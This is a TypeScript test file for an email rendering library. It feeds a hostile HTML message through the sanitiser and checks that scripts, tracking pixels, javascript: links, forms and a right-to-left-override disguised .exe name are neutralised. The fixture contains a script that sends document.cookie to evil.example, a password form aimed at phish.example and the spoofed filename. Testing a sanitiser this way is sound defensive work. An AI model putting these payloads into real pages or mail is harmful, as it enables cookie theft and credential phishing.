/**
 * Safe content through the engine and a real store: an HTML-only message with script, a tracking
 * pixel, an inline (cid:) logo and a disguised attachment name is synced and filed, then read
 * back through the facade.
 */
import { describe, expect, it } from "vitest";
import { ClientMailError, createClientMail } from "../src/index.js";
import { at, makeFirm, minutes } from "./engine/firm-fixture.js";
import { engineStores } from "./engine/stores.js";

const hostile =
  `<html><head><style>body{background:url(https://tracker.example/bg)}</style></head><body>` +
  `<p>Your <b>return</b> is attached.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>` +
  `<img src="https://tracker.example/open.gif?u=jo" width="1" height="1">` +
  `<img src="cid:logo@ledger" alt="Ledger">` +
  `<a href="javascript:alert(1)">Sign in</a> <a href="https://portal.example/">Portal</a>` +
  `<form action="https://phish.example/"><input name="password"></form></body></html>`;

describe.each(engineStores)("safe content on the $name", ({ make }) => {
  it("HTML-only mail is filed with a text; the facade returns it sanitised, remote images blocked, cid images mapped, names made safe", async () => {
    const f = await makeFirm({ makeStore: make });
    const box = f.boxes.ann.id;
    f.box(box).append({
      from: [at("jo@home.example")],
      to: [at("ann@ledger.example")],
      subject: "Your return",
      messageId: "<html-only@home>",
      date: minutes(1),
      html: hostile,
      attachments: [
        {
          filename: "logo.png",
          contentType: "image/png",
          content: new Uint8Array([1, 2, 3]),
          contentId: "logo@ledger",
        },
        {
          filename: "return\u202Efdp.exe",
          contentType: "application/octet-stream",
          content: new Uint8Array([4]),
        },
      ],
    });
    await f.sync(box).syncOnce();
    const cm = createClientMail({ store: f.store, clock: f.clock });

    // Filing stored a text for the HTML-only message (search, previews and notifications read it).
    const [raw] = await cm.accountThreads(f.firm.id, f.accounts.family.id);
    const stored = raw!.messages[0]!;
    expect(stored.text).toContain("Your return is attached.");
    expect(stored.text).not.toContain("document.cookie");
    expect(stored.attachments.find((a) => a.filename === "logo.png")?.contentId).toBe("logo@ledger");

    const attachmentUrl = (attachment: { contentHash: string }) =>
      `https://crm.example/files/${attachment.contentHash}`;
    const [thread] = await cm.renderAccountThreads(f.firm.id, f.accounts.family.id, "inbox", 50, {
      attachmentUrl,
    });
    const rendered = thread!.messages[0]!;
    expect(rendered).not.toHaveProperty("html");
    expect(rendered.subject).toBe("Your return");
    const { body } = rendered;
    for (const gone of [
      "<script",
      "document.cookie",
      "tracker.example",
      "javascript:",
      "<form",
      "<input",
      "<style",
    ])
      expect(body.html).not.toContain(gone);
    expect(body.blockedRemoteImages).toBe(1);
    const logo = stored.attachments.find((a) => a.filename === "logo.png")!;
    expect(body.html).toContain(`<img src="https://crm.example/files/${logo.contentHash}" alt="Ledger" />`);
    expect(body.html).toContain(
      `<a href="https://portal.example/" target="_blank" rel="noopener noreferrer nofollow">Portal</a>`,
    );
    expect(body.text).toContain("Your return is attached.");
    expect(body.attachments.map((a) => a.displayName).sort()).toEqual(["logo.png", "returnfdp.exe"]);

    const single = await cm.renderMessage(f.firm.id, rendered.id, { remoteImages: "allow" });
    expect(single.body.blockedRemoteImages).toBe(0);
    expect(single.body.html).toContain(`src="https://tracker.example/open.gif?u=jo"`);
    expect(single.body.html).not.toContain("<script");
  });

  it("renderMessage refuses bad input with validation_failed naming the field, and unknown messages with not_found", async () => {
    const f = await makeFirm({ makeStore: make });
    const cm = createClientMail({ store: f.store, clock: f.clock });
    const failure = async (call: Promise<unknown>) => {
      const error = await call.then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(ClientMailError.isInstance(error)).toBe(true);
      return error as ClientMailError & {
        issues?: Array<{ field: string; value: unknown; expected: string }>;
      };
    };
    const badOption = await failure(
      cm.renderMessage(f.firm.id, "m1", { remoteImages: "sometimes" as never }),
    );
    expect(badOption.code).toBe("validation_failed");
    expect(badOption.issues?.[0]).toMatchObject({ field: "options.remoteImages", value: "sometimes" });
    const badUrl = await failure(cm.renderMessage(f.firm.id, "m1", { attachmentUrl: "https://x" as never }));
    expect(badUrl.issues?.[0]).toMatchObject({ field: "options.attachmentUrl" });
    const badId = await failure(cm.renderMessage(f.firm.id, "bad\u0000id"));
    expect(badId.code).toBe("validation_failed");
    expect(badId.issues?.[0]).toMatchObject({ field: "messageId" });
    const badView = await failure(
      cm.renderAccountThreads(f.firm.id, f.accounts.family.id, "drafts" as never),
    );
    expect(badView.issues?.[0]).toMatchObject({ field: "view", value: "drafts" });
    const missing = await failure(cm.renderMessage(f.firm.id, "no-such-message"));
    expect(missing.code).toBe("not_found");
  });
});
